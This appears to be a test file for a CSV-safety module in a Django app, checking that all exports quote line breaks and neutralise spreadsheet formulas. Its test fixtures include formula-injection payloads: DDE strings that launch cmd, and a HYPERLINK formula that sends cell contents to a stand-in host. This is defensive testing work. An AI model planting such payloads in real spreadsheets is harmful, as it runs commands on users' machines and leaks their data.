"""One CSV writer for every CSV gvrs writes (issue 24): a cell holding a carriage return or a
line feed is quoted, so it stays one cell, and a cell a spreadsheet would run as a formula is
made inert. A bare carriage return used to pass: spreadsheets end a row at it, so the text
after it opened a new row whose first cell was a live formula."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
import time_machine
from django.core.management import call_command

from gvrs.accounts.models import AuditEvent
from gvrs.data import csvsafe
from gvrs.data.mapping import load_format
from gvrs.incidents.importing import import_file
from gvrs.incidents.models import Jurisdiction
from tests.importing_helpers import row, write_csv
from tests.public_helpers import make_random_town
from tests.review_helpers import county, import_rows, make_group, shooting

ROOT = Path(__file__).resolve().parents[1]
# Values that hide a formula behind a bare carriage return (with nothing else that would make
# the csv module quote the cell), a line feed, CRLF, and a CR in a cell quoted anyway.
HOSTILE = [
    "Elm\r=1+1",
    "Fir\r@SUM(1+1)*cmd|' /C calc'!A0",
    "Oak\n+cmd|' /C calc'!A0",
    "Ash\r\n-2+3+cmd|' /C calc'!A0",
    'Elm\r=HYPERLINK("http://x.example/?"&A1,"click")',
]
# Writing CSV other than through gvrs.data.csvsafe is allowed only here, and why:
ALLOWED = {
    # PostgreSQL's COPY wire format for staging rows during an import: read by the database,
    # never opened by a person, and the values must reach the database exactly as they were.
    ("gvrs/incidents/importing/staging.py", "write_csv"),
}
_WRITERS = {"writer", "DictWriter", "write_csv"}
_CSV_MODULES = {"csv", "pyarrow.csv"}


def spreadsheet_cells(text: str) -> list[str]:
    """The cells a spreadsheet sees: outside quotes, a row ends at CR, LF or CRLF."""
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


def assert_safe(text: str, values: list[str]) -> None:
    cells = spreadsheet_cells(text)
    live = [
        c
        for c in cells
        if c.startswith(("=", "+", "@", "-", "\r", "\t")) and not re.fullmatch(r"[+-][\d.]+", c)
    ]
    assert not live, live
    for value in values:
        assert csvsafe.inert(value) in cells, (value, cells)


def _read(path: Path) -> str:
    with open(path, newline="") as fh:
        return fh.read()


def _csv_writing_calls(path: Path) -> list[tuple[int, str]]:
    """Calls that write CSV: ``csv.writer``, ``csv.DictWriter``, a DataFrame's ``to_csv``,
    pyarrow's ``write_csv``, and any of them imported by name."""
    tree = ast.parse(path.read_text(), filename=str(path))
    modules, names = set(), set()  # what the csv modules and their writers are called here
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {a.asname or a.name for a in node.names if a.name in _CSV_MODULES}
        elif isinstance(node, ast.ImportFrom):
            if node.module in _CSV_MODULES:
                names |= {a.asname or a.name for a in node.names if a.name in _WRITERS}
            elif node.module == "pyarrow":
                modules |= {a.asname or a.name for a in node.names if a.name == "csv"}
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        if isinstance(func, ast.Attribute) and func.attr == "to_csv":
            found.append((node.lineno, "to_csv"))
        elif (
            isinstance(func, ast.Attribute)
            and func.attr in _WRITERS
            and isinstance(func.value, ast.Name)
            and func.value.id in modules
        ):
            found.append((node.lineno, func.attr))
        elif isinstance(func, ast.Name) and func.id in names:
            found.append((node.lineno, func.id))
    return found


def test_every_csv_gvrs_writes_goes_through_the_one_writer():
    stray = []
    for path in sorted((ROOT / "gvrs").rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if relative == "gvrs/data/csvsafe.py":
            continue
        for line, name in _csv_writing_calls(path):
            if (relative, name) not in ALLOWED:
                stray.append(f"{relative}:{line}: {name}")
    assert not stray, (
        "CSV written without gvrs.data.csvsafe (use csvsafe.writer or csvsafe.write_frame): "
        + ", ".join(stray)
    )


def test_the_scan_finds_each_way_of_writing_csv(tmp_path):
    """The guard above is only as good as its scan: each way of writing CSV is found."""
    path = tmp_path / "m.py"
    path.write_text(
        "import csv\nfrom csv import writer as w\nimport pyarrow.csv as pc\n"
        "from gvrs.data import csvsafe\ncsvsafe.writer(f)\n"
        "csv.writer(f)\ncsv.DictWriter(f, [])\nframe.to_csv(f)\npc.write_csv(t, f)\nw(f)\n"
    )
    assert [name for _, name in _csv_writing_calls(path)] == [
        "writer",
        "DictWriter",
        "to_csv",
        "write_csv",
        "w",
    ]


@pytest.mark.parametrize("value", [*HOSTILE, "\r=1+1", "\n-2+3"])
def test_the_writer_keeps_a_cell_with_a_line_break_one_cell_and_inert(value):
    rows = io.StringIO(newline="")
    csvsafe.writer(rows).writerow(["before", value, -3, None, 1.5])
    assert spreadsheet_cells(rows.getvalue()) == ["before", csvsafe.inert(value), "-3", "", "1.5"]
    frame = csvsafe.frame_text(__import__("pandas").DataFrame({"a": ["x", value], "n": [1, 2]}))
    assert spreadsheet_cells(frame) == ["a", "n", "x", "1", csvsafe.inert(value), "2"]


def test_a_bare_carriage_return_is_quoted_where_the_csv_module_alone_would_not():
    plain = io.StringIO(newline="")
    csv.writer(plain, lineterminator="\n").writerow(["a\r=1+1"])
    assert plain.getvalue() == "a\r=1+1\n"  # what passed before: a new row, a live formula
    assert "=1+1" in spreadsheet_cells(plain.getvalue())
    safe = io.StringIO(newline="")
    csvsafe.writer(safe).writerow(["a\r=1+1"])
    assert safe.getvalue() == '"a\r=1+1"\r\n'


@pytest.mark.django_db
def test_gvrs_incidents_as_csv(tmp_path):
    rows = [row(f"F-{i}", area=value) for i, value in enumerate(HOSTILE)]
    assert import_file(write_csv(tmp_path / "in.csv", rows), load_format("gvrs")).ok
    out = io.StringIO()
    call_command("incidents", format="csv", stdout=out)
    assert_safe(out.getvalue(), HOSTILE)


@pytest.mark.django_db
def test_the_rejects_file(tmp_path):
    rows = [row(f"R-{i}", area=value, victim_age="x") for i, value in enumerate(HOSTILE)]
    rejects = tmp_path / "rejects.csv"
    report = import_file(
        write_csv(tmp_path / "in.csv", rows),
        load_format("gvrs"),
        accept_valid=True,
        rejects_path=rejects,
    )
    assert report.rejects_written == len(HOSTILE)
    assert_safe(_read(rejects), HOSTILE)


@pytest.mark.django_db
def test_the_web_export(tmp_path, client, people):
    rows = [row(f"W-{i}", area=value) for i, value in enumerate(HOSTILE)]
    assert import_file(write_csv(tmp_path / "in.csv", rows), load_format("gvrs")).ok
    client.force_login(people["police"])
    response = client.get("/incidents/export.csv")
    assert_safe(b"".join(response.streaming_content).decode(), HOSTILE)


@pytest.mark.django_db
def test_the_public_data_csv(client):
    town, _ = make_random_town(4, name=HOSTILE[0])
    body = client.get(f"/public/{town.slug}/data.csv").content.decode()
    assert_safe(body, [HOSTILE[0]])


@pytest.mark.django_db
def test_the_partner_audit_export(tmp_path):
    for i, value in enumerate(HOSTILE):
        AuditEvent.objects.create(
            action="participant.intake",
            object_type="partners.Participant",
            object_id=str(i),
            detail=value,
        )
    out = tmp_path / "audit.csv"
    call_command("partner_audit", out=str(out), stdout=io.StringIO())
    assert_safe(_read(out), HOSTILE)


@pytest.mark.django_db
def test_the_group_audit_csv(tmp_path, client, people):
    with time_machine.travel(dt.datetime(2026, 3, 7, 18, tzinfo=dt.UTC), tick=False):
        import_rows(tmp_path, [shooting("S-1", "2026-03-06", "East")])
        for value in HOSTILE:
            make_group(people["analyst"], value, "East", dt.date(2026, 3, 1))
        client.force_login(people["police"])
        response = client.get(f"/reviews/groups/groups.csv?place={county().slug}")
    assert response.status_code == 200
    assert_safe(response.content.decode(), HOSTILE)


@pytest.mark.django_db
def test_gvrs_stats_as_csv(tmp_path):
    rows = [row("S-1", jurisdiction=f"Kern-like County > {HOSTILE[0]}")]
    assert import_file(write_csv(tmp_path / "in.csv", rows), load_format("gvrs"), state="CA").ok
    out = io.StringIO()
    place = Jurisdiction.objects.get(name=HOSTILE[0])
    call_command("stats", metric="homicides", jurisdiction=place.slug, format="csv", stdout=out)
    assert_safe(out.getvalue(), [HOSTILE[0]])
